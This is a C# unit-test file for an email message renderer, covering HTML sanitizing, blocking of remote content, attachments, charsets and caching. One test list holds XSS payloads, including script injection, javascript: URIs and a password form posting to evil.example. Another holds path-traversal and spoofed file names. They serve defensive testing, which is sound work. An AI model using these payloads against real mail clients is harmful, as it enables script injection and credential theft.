using System.Text;
using AngleSharp.Html.Parser;
using MailActors.Core;
using MailActors.Storage.Blobs;
using MimeKit;
using Xunit;

namespace MailActors.Mime.Tests;

public sealed class MessageRendererTests : IDisposable
{
    private static readonly Func<string, string> Url = p => $"/v1/messages/42/attachments/{p}";

    private readonly DirectoryInfo _root = Directory.CreateTempSubdirectory("mailactors-render-");
    private readonly FileBlobStore _store;
    private readonly MessageRenderer _renderer;

    public MessageRendererTests()
    {
        _store = new FileBlobStore(_root.FullName);
        _renderer = new MessageRenderer(_store, new MessageRendererOptions());
    }

    public void Dispose()
    {
        try { _root.Delete(recursive: true); }
        catch (IOException) { /* best effort */ }
    }

    [Fact]
    public async Task Plain_text_message_shows_its_headers_in_order_and_its_text()
    {
        var blob = await PutAsync("""
            Subject: Lunch?
            To: Bob <bob@example.org>
            From: Alice <alice@example.com>
            Date: Tue, 04 Mar 2025 10:00:00 +0100
            Message-ID: <m1@example.com>
            X-Mailer: test

            Hello Bob,
            shall we?
            """);

        var rendered = await RenderAsync(blob);

        Assert.Equal(["From", "To", "Subject", "Date", "Message-ID"], rendered.Headers.Select(h => h.Name));
        Assert.Equal("\"Alice\" <alice@example.com>", Header(rendered, "From"));
        Assert.Equal("Lunch?", Header(rendered, "Subject"));
        Assert.Equal("<m1@example.com>", Header(rendered, "Message-ID"));
        Assert.Equal("Hello Bob,\nshall we?", rendered.Text);
        Assert.Null(rendered.Html);
        Assert.False(rendered.RemoteContentBlocked);
        Assert.Empty(rendered.Attachments);
        Assert.True(rendered.ApproximateBytes > 2 * rendered.Text!.Length);
    }

    [Fact]
    public async Task Html_only_message_gets_a_text_version()
    {
        var blob = await PutAsync("""
            From: alice@example.com
            Subject: News
            Content-Type: text/html; charset=utf-8

            <html><head><title>ignored</title><style>p { color: red }</style></head>
            <body><h1>Weekly   news</h1><p>Hello <b>World</b>, see <a href="https://example.com/more">more</a>.</p>
            <ul><li>one</li><li>two</li></ul>Line<br>break</body></html>
            """);

        var rendered = await RenderAsync(blob);

        Assert.Equal("Weekly news\n\nHello World, see more <https://example.com/more>.\n\n- one\n- two\nLine\nbreak", rendered.Text);
        Assert.NotNull(rendered.Html);
        Assert.Contains("<b>World</b>", rendered.Html);
        Assert.DoesNotContain("ignored", rendered.Html);
        Assert.DoesNotContain("color: red", rendered.Html);
    }

    [Fact]
    public async Task Multipart_alternative_shows_both_versions()
    {
        var blob = await PutAsync("""
            From: alice@example.com
            Subject: Both
            MIME-Version: 1.0
            Content-Type: multipart/alternative; boundary="alt"

            --alt
            Content-Type: text/plain; charset=utf-8

            The plain version.
            --alt
            Content-Type: text/html; charset=utf-8

            <p>The <i>HTML</i> version.</p>
            --alt--
            """);

        var rendered = await RenderAsync(blob);

        Assert.Equal("The plain version.", rendered.Text);
        Assert.Equal("<p>The <i>HTML</i> version.</p>", rendered.Html);
        Assert.Empty(rendered.Attachments);
    }

    public static TheoryData<string> XssVectors => new()
    {
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><circle r=1 /></svg>",
        "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>",
        "<a href=\"  JaVaScRiPt:alert(1)\">case</a>",
        "<a href=\"vbscript:msgbox(1)\">vb</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data link</a>",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#39;&#41;>",
        "<style>@import 'http://evil.example/x.css'; body { background: url(http://evil.example/b.png) }</style><p>styled</p>",
        "<div style=\"background:url(http://evil.example/x.png)\">bg</div>",
        "<div style=\"width: expression(alert(1)); behavior: url(x.htc); -moz-binding: url(http://evil.example/x.xml#x)\">old IE</div>",
        "<div style=\"position:fixed; top:0; left:0; z-index:9999\">overlay</div>",
        "<base href=\"http://evil.example/\"><a href=\"page\">relative</a>",
        "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">",
        "<form action=\"http://evil.example/steal\"><input type=password name=p><button>Log in</button></form>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<iframe src=\"http://evil.example/\"></iframe><object data=\"http://evil.example/x.swf\"></object><embed src=\"http://evil.example/x.swf\">",
        "<script>alert(1)</script><SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
        "<body onload=alert(1)><p onclick=\"alert(1)\" onmouseover='alert(2)'>hover</p></body>",
        "<link rel=stylesheet href=\"http://evil.example/x.css\">",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<p data-blocked-src=\"javascript:alert(1)\">spoofed marker</p>",
    };

    [Theory]
    [MemberData(nameof(XssVectors))]
    public async Task Xss_vectors_are_neutralized(string vector)
    {
        var blob = await PutAsync(HtmlMessage(vector));

        var html = (await RenderAsync(blob)).Html;

        Assert.NotNull(html);
        Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("javascript:", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("vbscript:", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("evil.example", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("expression(", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotMatch(@"(?i)(^|[\s;""])(position|z-index)\s*:", html);
        Assert.DoesNotContain("@import", html, StringComparison.OrdinalIgnoreCase);

        var document = new HtmlParser().ParseDocument(html);
        string[] forbidden = ["script", "style", "iframe", "object", "embed", "form", "input", "button", "base", "meta", "link", "svg", "math"];
        Assert.DoesNotContain(document.All, e => forbidden.Contains(e.LocalName));
        foreach (var element in document.All)
        {
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"{element.LocalName} kept {attribute.Name}");
                Assert.NotEqual("srcdoc", attribute.Name);
                Assert.False(attribute.Value.TrimStart().StartsWith("data:", StringComparison.OrdinalIgnoreCase), $"{element.LocalName} kept {attribute.Name}={attribute.Value}");
            }
        }
    }

    [Fact]
    public async Task Links_open_in_a_new_tab_without_referrer_and_safe_data_images_stay()
    {
        const string png = "data:image/png;base64,iVBORw0KGgo=";
        var blob = await PutAsync(HtmlMessage($"""
            <a href="https://example.com/a" target="_self" rel="opener">web</a>
            <a href="mailto:bob@example.org">mail</a>
            <a href="tel:+4930123">call</a>
            <a href="#top">anchor</a>
            <a href="/v1/admin">relative</a>
            <img src="{png}" alt="dot">
            <img src="relative.png">
            """));

        var document = new HtmlParser().ParseDocument((await RenderAsync(blob)).Html!);

        var links = document.QuerySelectorAll("a").ToList();
        Assert.Equal(["https://example.com/a", "mailto:bob@example.org", "tel:+4930123", "#top", null], links.Select(a => a.GetAttribute("href")));
        foreach (var link in links.Take(4))
        {
            Assert.Equal("_blank", link.GetAttribute("target"));
            Assert.Equal("noopener noreferrer nofollow", link.GetAttribute("rel"));
        }
        var images = document.QuerySelectorAll("img").ToList();
        Assert.Equal(png, images[0].GetAttribute("src"));
        Assert.Null(images[1].GetAttribute("src"));
    }

    [Fact]
    public async Task Remote_images_are_blocked_unless_allowed()
    {
        var blob = await PutAsync(HtmlMessage("""
            <img src="https://img.example/a.png" srcset="https://img.example/a2.png 2x">
            <img src="http://img.example/b.png">
            <img src="//img.example/c.png">
            <table background="https://img.example/bg.png"><tr><td>cell</td></tr></table>
            <div style="background-image: url(https://img.example/d.png); color: green">styled</div>
            <a href="https://example.com/page">links are not remote content</a>
            """));

        var blocked = await RenderAsync(blob, allowRemoteContent: false);

        Assert.True(blocked.RemoteContentBlocked);
        var document = new HtmlParser().ParseDocument(blocked.Html!);
        var images = document.QuerySelectorAll("img").ToList();
        Assert.All(images, img => Assert.Null(img.GetAttribute("src")));
        Assert.All(images, img => Assert.Null(img.GetAttribute("srcset")));
        Assert.Equal(["https://img.example/a.png", "http://img.example/b.png", "//img.example/c.png"], images.Select(i => i.GetAttribute("data-blocked-src")));
        var table = document.QuerySelector("table")!;
        Assert.Null(table.GetAttribute("background"));
        Assert.Equal("https://img.example/bg.png", table.GetAttribute("data-blocked-background"));
        Assert.DoesNotContain("d.png", blocked.Html);
        Assert.Contains("color", blocked.Html);
        Assert.Equal("https://example.com/page", document.QuerySelector("a")!.GetAttribute("href"));

        var allowed = await RenderAsync(blob, allowRemoteContent: true);

        Assert.False(allowed.RemoteContentBlocked);
        document = new HtmlParser().ParseDocument(allowed.Html!);
        Assert.Equal(["https://img.example/a.png", "http://img.example/b.png", "//img.example/c.png"],
            document.QuerySelectorAll("img").Select(i => i.GetAttribute("src")));
        Assert.DoesNotContain("data-blocked", allowed.Html);
        Assert.Equal("https://img.example/bg.png", document.QuerySelector("table")!.GetAttribute("background"));
        Assert.Contains("https://img.example/d.png", allowed.Html);
    }

    [Theory]
    [InlineData("""<img href="https://t.example/p.gif" src="https://t.example/p.gif">""")]
    [InlineData("""<a href="https://t.example/p.gif" style="background:url(https://t.example/p.gif)">x</a>""")]
    [InlineData("""<table cite="https://t.example/p.gif" background="https://t.example/p.gif"><tr><td>x</td></tr></table>""")]
    public async Task A_remote_resource_stays_blocked_when_a_link_attribute_repeats_its_url(string html)
    {
        var rendered = await RenderAsync(await PutAsync(HtmlMessage(html)), allowRemoteContent: false);
        var document = new HtmlParser().ParseDocument(rendered.Html!);
        Assert.True(rendered.RemoteContentBlocked);
        var element = document.Body!.FirstElementChild!;
        Assert.Null(element.GetAttribute("src"));
        Assert.Null(element.GetAttribute("background"));
        Assert.DoesNotContain("url(", element.GetAttribute("style") ?? "");
    }

    [Fact]
    public async Task Cid_images_point_at_the_attachment_url()
    {
        var blob = await PutAsync("""
            From: alice@example.com
            Subject: Logo
            MIME-Version: 1.0
            Content-Type: multipart/related; boundary="rel"

            --rel
            Content-Type: text/html; charset=utf-8

            <p><img src="cid:logo@example.com" alt="logo"><img src="cid:missing@example.com"></p>
            <div style="background-image: url(cid:logo@example.com)">bg</div>
            --rel
            Content-Type: image/png
            Content-ID: <logo@example.com>
            Content-Transfer-Encoding: base64

            iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==
            --rel--
            """);

        var rendered = await RenderAsync(blob);

        var document = new HtmlParser().ParseDocument(rendered.Html!);
        var images = document.QuerySelectorAll("img").ToList();
        Assert.Equal("/v1/messages/42/attachments/2", images[0].GetAttribute("src"));
        Assert.Null(images[1].GetAttribute("src"));
        Assert.Contains("/v1/messages/42/attachments/2", document.QuerySelector("div")!.GetAttribute("style"));
        Assert.False(rendered.RemoteContentBlocked);
        var logo = Assert.Single(rendered.Attachments);
        Assert.Equal(new RenderedAttachment("2", "attachment.png", "image/png", 70, true, "logo@example.com"), logo);
    }

    [Fact]
    public async Task Attachments_are_listed_with_part_ids_and_open_with_their_decoded_bytes()
    {
        // Small in-memory limit: the message and its attachments go through temp files.
        var renderer = new MessageRenderer(_store, new MessageRendererOptions { InMemoryBytes = 16 * 1024 });
        var pdf = RandomBytes(300 * 1024, seed: 1);
        var csv = Encoding.UTF8.GetBytes("a,b\n1,2\n");
        var forwarded = new MimeMessage(
            [new MailboxAddress("Carol", "carol@example.org")], [new MailboxAddress("", "alice@example.com")],
            "Forwarded one", new Multipart("mixed")
            {
                new TextPart("plain") { Text = "inner" },
                new MimePart("application", "zip") { FileName = "inner.zip", Content = new MimeContent(new MemoryStream(new byte[10])) },
            });
        var builder = new BodyBuilder { TextBody = "See attached.", HtmlBody = "<p>See attached.</p>" };
        builder.Attachments.Add("report.pdf", pdf, new ContentType("application", "pdf"));
        builder.Attachments.Add("data.csv", csv, new ContentType("text", "csv"));
        builder.Attachments.Add(new MessagePart { Message = forwarded });
        var blob = await PutAsync(Message(builder.ToMessageBody()));

        var rendered = await renderer.RenderAsync(blob, Url, "attachments", false, default);

        Assert.Equal("See attached.", rendered.Text);
        Assert.Equal("<p>See attached.</p>", rendered.Html);
        Assert.Equal(
            [
                new RenderedAttachment("2", "report.pdf", "application/pdf", pdf.Length, false, null),
                new RenderedAttachment("3", "data.csv", "text/csv", csv.Length, false, null),
                new RenderedAttachment("4", "Forwarded one.eml", "message/rfc822", rendered.Attachments[2].Size, true, null), // no Content-Disposition
            ],
            rendered.Attachments);

        var report = await renderer.OpenAttachmentAsync(blob, "2", default);
        Assert.NotNull(report);
        await using (report.Content)
        {
            Assert.Equal("application/pdf", report.ContentType);
            Assert.Equal("report.pdf", report.FileName);
            Assert.Equal(pdf, ReadAll(report.Content));
        }

        var message = await renderer.OpenAttachmentAsync(blob, "4", default);
        Assert.NotNull(message);
        await using (message.Content)
        {
            Assert.Equal("message/rfc822", message.ContentType);
            var bytes = ReadAll(message.Content);
            Assert.Equal(rendered.Attachments[2].Size, bytes.Length);
            Assert.Contains("Subject: Forwarded one\r\n", Encoding.UTF8.GetString(bytes));
            using var inner = MimeMessage.Load(new MemoryStream(bytes));
            Assert.Equal("Forwarded one", inner.Subject);
            Assert.Equal("inner.zip", Assert.IsType<MimePart>(Assert.Single(inner.Attachments)).FileName);
        }

        var body = await renderer.OpenAttachmentAsync(blob, "1.1", default); // the text body is a part too
        Assert.NotNull(body);
        await using (body.Content) Assert.Equal("See attached.", Encoding.UTF8.GetString(ReadAll(body.Content)));
        Assert.Null(await renderer.OpenAttachmentAsync(blob, "9", default));
        Assert.Null(await renderer.OpenAttachmentAsync(blob, "../2", default));
        Assert.Null(await renderer.OpenAttachmentAsync(blob, "1", default)); // a multipart, not a leaf
    }

    public static TheoryData<string?, string> HostileNames => new()
    {
        { "../../etc/passwd", "passwd" },
        { "..\\..\\windows\\system.ini", "system.ini" },
        { "a\"b.pdf", "ab.pdf" },
        { "evil\r\nname\u0007.pdf", "evilname.pdf" },
        { "invoice\u202Efdp.exe", "invoicefdp.exe" },
        { new string('x', 300) + ".pdf", new string('x', 251) + ".pdf" },
        { "..", "attachment.pdf" },
        { null, "attachment.pdf" },
    };

    [Theory]
    [MemberData(nameof(HostileNames))]
    public async Task Attachment_file_names_are_made_safe(string? name, string expected)
    {
        var bytes = RandomBytes(2000, seed: 2);
        var part = new MimePart("application", "pdf")
        {
            Content = new MimeContent(new MemoryStream(bytes)),
            ContentDisposition = new ContentDisposition(ContentDisposition.Attachment),
            ContentTransferEncoding = ContentEncoding.Base64,
        };
        if (name is not null) part.ContentDisposition.Parameters.Add("filename", name);
        var blob = await PutAsync(Message(new Multipart("mixed") { new TextPart("plain") { Text = "x" }, part }));

        var listed = Assert.Single((await RenderAsync(blob)).Attachments);
        var opened = await _renderer.OpenAttachmentAsync(blob, listed.PartId, default);

        Assert.Equal(expected, listed.FileName);
        Assert.NotNull(opened);
        await using var content = opened.Content;
        Assert.Equal(expected, opened.FileName);
        Assert.True(opened.FileName.Length <= 255);
        Assert.Equal(bytes, ReadAll(content));
    }

    [Fact]
    public async Task Non_utf8_charsets_are_decoded()
    {
        var raw = Encoding.Latin1.GetBytes(Crlf("""
            From: =?ISO-8859-1?Q?J=F6rg_M=FCller?= <joerg@example.de>
            Subject: =?ISO-8859-1?Q?Gr=FC=DFe_aus_M=FCnchen?=
            MIME-Version: 1.0
            Content-Type: multipart/alternative; boundary="b"

            --b
            Content-Type: text/plain; charset=iso-8859-1
            Content-Transfer-Encoding: 8bit

            Grüße, schöne Äpfel
            --b
            Content-Type: text/html; charset=windows-1252
            Content-Transfer-Encoding: quoted-printable

            <p>Preis: 5 =80</p>
            --b--
            """));
        var blob = (await _store.PutAsync(new MemoryStream(raw))).Id;

        var rendered = await RenderAsync(blob);

        Assert.Equal("Grüße aus München", Header(rendered, "Subject"));
        Assert.Equal("\"Jörg Müller\" <joerg@example.de>", Header(rendered, "From"));
        Assert.Equal("Grüße, schöne Äpfel", rendered.Text);
        Assert.Equal("<p>Preis: 5 €</p>", rendered.Html);
    }

    [Fact]
    public async Task Text_without_a_charset_that_is_not_utf8_is_read_as_latin1()
    {
        var raw = Encoding.Latin1.GetBytes(Crlf("""
            From: old@example.com
            Subject: old mailer

            Café
            """));
        var blob = (await _store.PutAsync(new MemoryStream(raw))).Id;

        Assert.Equal("Café", (await RenderAsync(blob)).Text);
    }

    [Fact]
    public async Task Broken_mime_renders_what_it_can()
    {
        var blob = await PutAsync("""
            From: alice@example.com
            Subject: broken
            MIME-Version: 1.0
            Content-Type: multipart/mixed; boundary="never-closed"

            --never-closed
            Content-Type: text/plain; charset=bogus-charset

            hello despite everything
            --never-closed
            Content-Type: application/pdf; name="cut.pdf"
            Content-Transfer-Encoding: base64

            JVBERi0xLjQK!!!not base64 at all
            """);

        var rendered = await RenderAsync(blob);

        Assert.Equal("hello despite everything", rendered.Text);
        var attachment = Assert.Single(rendered.Attachments);
        Assert.Equal("cut.pdf", attachment.FileName);
        var opened = await _renderer.OpenAttachmentAsync(blob, attachment.PartId, default);
        Assert.NotNull(opened);
        await using var content = opened.Content;
        Assert.StartsWith("%PDF-1.4", Encoding.ASCII.GetString(ReadAll(content)));
    }

    [Fact]
    public async Task A_blob_that_is_not_mime_shows_its_raw_text()
    {
        var blob = (await _store.PutAsync(new MemoryStream([0x00, 0x01, .. "not a message at all\r\nreally"u8, 0xFF]))).Id;

        var rendered = await RenderAsync(blob);

        Assert.Empty(rendered.Headers);
        Assert.Null(rendered.Html);
        Assert.Contains("not a message at all\nreally", rendered.Text);
        Assert.Null(await _renderer.OpenAttachmentAsync(blob, "1", default));

        var empty = (await _store.PutAsync(new MemoryStream())).Id;
        Assert.Equal("", (await RenderAsync(empty)).Text);
    }

    [Fact]
    public async Task Long_bodies_are_cut_with_a_note()
    {
        var renderer = new MessageRenderer(_store, new MessageRendererOptions { MaxBodyChars = 100 });
        var blob = await PutAsync($"""
            From: alice@example.com
            Subject: long
            Content-Type: text/html

            <p>{new string('a', 5000)}</p>
            """);

        var rendered = await renderer.RenderAsync(blob, Url, "long", false, default);

        Assert.StartsWith(new string('a', 97), rendered.Text);
        Assert.Contains("too long to show in full", rendered.Text);
        Assert.True(rendered.Text!.Length < 200);
        Assert.Contains("too long to show in full", rendered.Html);
        Assert.True(rendered.Html!.Length < 300);
    }

    [Fact]
    public async Task Missing_and_corrupted_blobs_throw_the_store_exceptions()
    {
        var missing = BlobId.Of("never stored"u8);
        await Assert.ThrowsAsync<BlobNotFoundException>(() => _renderer.RenderAsync(missing, Url, "missing", false, default));
        await Assert.ThrowsAsync<BlobNotFoundException>(() => _renderer.OpenAttachmentAsync(missing, "1", default));

        var blob = await PutAsync("Subject: x\n\n" + new string('y', 10_000));
        var hex = blob.ToString();
        var file = Path.Combine(_root.FullName, hex[..2], hex[2..4], hex + ".zst");
        var bytes = File.ReadAllBytes(file);
        bytes[^3] ^= 0xFF;
        File.WriteAllBytes(file, bytes);

        await Assert.ThrowsAsync<BlobCorruptedException>(() => _renderer.RenderAsync(blob, Url, "corrupt", false, default));
    }

    [Fact]
    public async Task A_failed_render_is_not_cached()
    {
        var raw = Encoding.UTF8.GetBytes(Crlf("Subject: late\n\nbody"));
        var id = BlobId.Of(raw);
        await Assert.ThrowsAsync<BlobNotFoundException>(() => _renderer.RenderAsync(id, Url, "late", false, default));

        await _store.PutAsync(new MemoryStream(raw));

        Assert.Equal("body", (await _renderer.RenderAsync(id, Url, "late", false, default)).Text);
    }

    [Fact]
    public async Task The_cache_returns_the_same_result_for_a_key_and_stays_within_its_bound()
    {
        var blobs = new List<BlobId>();
        for (var i = 0; i < 10; i++)
            blobs.Add(await PutAsync($"Subject: message {i}\n\n{new string((char)('a' + i), 10_000)}"));
        var one = await _renderer.RenderAsync(blobs[0], Url, "m0", false, default);
        var capacity = one.ApproximateBytes * 3 + one.ApproximateBytes / 2;
        var renderer = new MessageRenderer(_store, new MessageRendererOptions { CacheBytes = capacity });

        var first = await renderer.RenderAsync(blobs[0], Url, "m0", false, default);
        Assert.Same(first, await renderer.RenderAsync(blobs[0], Url, "m0", false, default));
        Assert.NotSame(first, await renderer.RenderAsync(blobs[0], Url, "m0", true, default));

        for (var i = 1; i < 10; i++)
        {
            await renderer.RenderAsync(blobs[i], Url, $"m{i}", false, default);
            Assert.InRange(renderer.CachedBytes, 0, capacity);
        }
        Assert.Equal(3, renderer.CachedCount);
        Assert.Same(await renderer.RenderAsync(blobs[9], Url, "m9", false, default), await renderer.RenderAsync(blobs[9], Url, "m9", false, default));
        Assert.NotSame(first, await renderer.RenderAsync(blobs[0], Url, "m0", false, default)); // evicted
    }

    [Fact]
    public async Task Concurrent_renders_of_one_key_share_the_result()
    {
        var blob = await PutAsync("Subject: popular\n\n" + new string('p', 200_000));

        var results = await Task.WhenAll(Enumerable.Range(0, 8).Select(_ => Task.Run(() => _renderer.RenderAsync(blob, Url, "popular", false, default))));

        Assert.All(results, r => Assert.Same(results[0], r));
    }

    [Fact]
    public async Task A_composed_message_renders_as_it_was_written()
    {
        var request = new ComposeRequest("alice@example.com", "Alice", ["bob@example.org"], [], ["secret@example.org"], "Hi",
            null, "<p>Hello <b>Bob</b></p>", [new ComposeAttachment("notes.txt", "text/plain", new MemoryStream("notes"u8.ToArray()))]);
        var result = MessageComposer.Build(request, new ComposeLimits(), DateTimeOffset.UtcNow, "example.com");
        using var message = result.Message!;
        var written = new MemoryStream();
        await MessageComposer.WriteAsync(message, written, includeBcc: false, default);
        written.Position = 0;
        var blob = (await _store.PutAsync(written)).Id;

        var rendered = await RenderAsync(blob);

        Assert.Equal("Hello Bob", rendered.Text);
        Assert.Equal("<p>Hello <b>Bob</b></p>", rendered.Html);
        Assert.Null(Header(rendered, "Bcc"));
        Assert.Equal("notes.txt", Assert.Single(rendered.Attachments).FileName);
    }

    private Task<RenderedMessage> RenderAsync(BlobId blob, bool allowRemoteContent = false) =>
        _renderer.RenderAsync(blob, Url, Guid.NewGuid().ToString(), allowRemoteContent, default);

    private async Task<BlobId> PutAsync(string raw) =>
        (await _store.PutAsync(new MemoryStream(Encoding.UTF8.GetBytes(Crlf(raw))))).Id;

    private async Task<BlobId> PutAsync(MimeMessage message)
    {
        var bytes = new MemoryStream();
        await message.WriteToAsync(bytes);
        bytes.Position = 0;
        return (await _store.PutAsync(bytes)).Id;
    }

    private static MimeMessage Message(MimeEntity body) =>
        new([new MailboxAddress("Alice", "alice@example.com")], [new MailboxAddress("Bob", "bob@example.org")], "With attachments", body);

    private static string HtmlMessage(string html) => $"""
        From: alice@example.com
        Subject: html
        MIME-Version: 1.0
        Content-Type: text/html; charset=utf-8

        {html}
        """;

    private static string? Header(RenderedMessage message, string name) => message.Headers.FirstOrDefault(h => h.Name == name)?.Value;

    private static string Crlf(string s) => s.ReplaceLineEndings("\r\n");

    private static byte[] ReadAll(Stream stream)
    {
        var copy = new MemoryStream();
        stream.CopyTo(copy);
        return copy.ToArray();
    }

    private static byte[] RandomBytes(int length, int seed)
    {
        var bytes = new byte[length];
        new Random(seed).NextBytes(bytes);
        return bytes;
    }
}
